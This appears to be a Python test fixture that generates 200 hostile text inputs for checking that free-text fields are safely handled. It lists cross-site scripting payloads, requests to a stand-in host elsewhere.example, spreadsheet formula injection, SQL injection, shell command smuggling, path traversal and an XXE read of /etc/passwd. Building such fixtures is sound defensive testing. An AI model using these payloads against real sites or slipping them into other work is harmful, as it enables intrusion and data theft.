"""Texts that try to be something else: a script, a style, a link, a template, the end of a document, a formula.

Made from families, each a few forms × a few deeds, so that 200 different ones come out and a new trick is one line.
Every deed leaves a trace: a call of `__x`, a dialog, or a request to another origin.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

COUNT = 200
LONGEST = 200
"""Characters: the bound of the shortest free-text fields (docs/protocol.md, 1)."""

ELSEWHERE = "//elsewhere.example/x"
DEEDS = ("__x(1)", "alert`1`", "top['__x'](2)", f"fetch('{ELSEWHERE}')", "import('data:text/javascript,__x(3)')")

FORMS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>{deed}</script>",
        "</script><script>{deed}</script>",
        "<ScRiPt src=data:,{deed}></sCrIpT>",
        "<script type=module>{deed}//",
        "--><script>{deed}</script><!--",
        "</textarea></title></style><script>{deed}</script>",
    ),
    "handler": (
        '<img src=x onerror="{deed}">',
        "<details open ontoggle={deed}>",
        "<body onload={deed}>",
        '" autofocus onfocus="{deed}" x="',
        "' onpointerenter='{deed}' style='position:fixed;inset:0",
        "<input autofocus onfocus={deed}>",
        "<video><source onerror={deed}></video>",
    ),
    "svg": (
        "<svg onload={deed}>",
        "<svg><script>{deed}</script></svg>",
        "<svg><animate onbegin={deed} attributeName=x dur=1s>",
        '<math><mi xlink:href="javascript:{deed}">x</mi></math>',
    ),
    "link": (
        "javascript:{deed}",
        "JaVaScRiPt&colon;{deed}",
        "java\tscript:{deed}",
        '<a href="javascript:{deed}">x</a>',
        "data:text/html,<script>{deed}</script>",
        'tel:10000" onclick="{deed}',
        "<iframe srcdoc='<script>{deed}</script>'>",
    ),
    "template": (
        "${{{deed}}}",
        "{{{{{deed}}}}}",
        "<%= {deed} %>",
        "#{{{deed}}}",
        "{{{{constructor.constructor('{deed}')()}}}}",
    ),
    "entity": (
        "&lt;script&gt;{deed}&lt;/script&gt;",
        "&#60;img src=x onerror={deed}&#62;",
        "\\u003cscript\\u003e{deed}",
    ),
    "json": ('"}}],"x":"</script><script>{deed}</script>', '\\"}};{deed};//', '{{"__proto__":{{"x":"{deed}"}}}}'),
}

PLAIN = (
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<style>@import '{ELSEWHERE}';</style>",
    f"<img src={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}>",
    f"<form action={ELSEWHERE}><button>x",
    f"<object data={ELSEWHERE}></object>",
    f"background:url({ELSEWHERE})",
    "</style><style>*{display:none}</style>",
    "x}*{visibility:hidden}",
    '=HYPERLINK("http://elsewhere.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "＝1+1",
    "\t=1+1",
    "'; DROP TABLE visits; --",
    "%s %d %n {0} {name} %(name)s",
    "../../etc/passwd",
    "$(reboot) `reboot` | reboot",
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068x\u2069\u2069\u2069",
    "\u200b\u200d\ufeffzero width",
    "line\u2028separator\u2029paragraph",
    "a\r\nb\x1b[31mred\x07\x08\x7f\x01",
    "first line\nSet-Cookie: x=1\r\n\r\n<script>__x(4)</script>",
    "e\u0301" * 60 + "\u0335" * 40,
    "W" * LONGEST,
    "长" * LONGEST,
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿𝕏\U0010ffff",
    "null",
    "__proto__",
    "<!--",
    "<![CDATA[",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
)


def hostile_texts() -> list[str]:
    """The 200 texts, all different, each within the bounds of every free-text field."""
    texts = list(dict.fromkeys((*PLAIN, *_formed())))[:COUNT]
    assert len(texts) == COUNT
    assert max(map(len, texts)) <= LONGEST
    return texts


def _formed() -> Iterator[str]:
    """Deed after deed, so that every form is among the first."""
    forms = [form for family in FORMS.values() for form in family]
    for deed, form in product(DEEDS, forms):
        yield form.format(deed=deed)
